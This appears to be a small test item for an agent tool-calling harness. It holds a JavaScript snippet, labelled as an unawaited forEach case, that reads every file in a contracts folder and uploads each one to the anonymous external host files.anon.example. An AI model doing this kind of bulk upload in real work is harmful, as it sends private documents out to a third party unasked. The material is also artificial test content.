/*---
domain = "files"
why = "forEach over a folder, each file posted away without being awaited."
---*/
const listing = await callTool("fs_list", { dir: "/srv/work/contracts" });
const jobs = [];
listing.entries.filter((e) => e.type === "file").forEach((entry) => {
  jobs.push(async () => {
    const file = await callTool("fs_read", { path: entry.path });
    return await callTool("transfer_upload", { host: "files.anon.example", name: entry.name, data: file.data });
  });
});
await parallel(jobs);
return listing.entries.length;
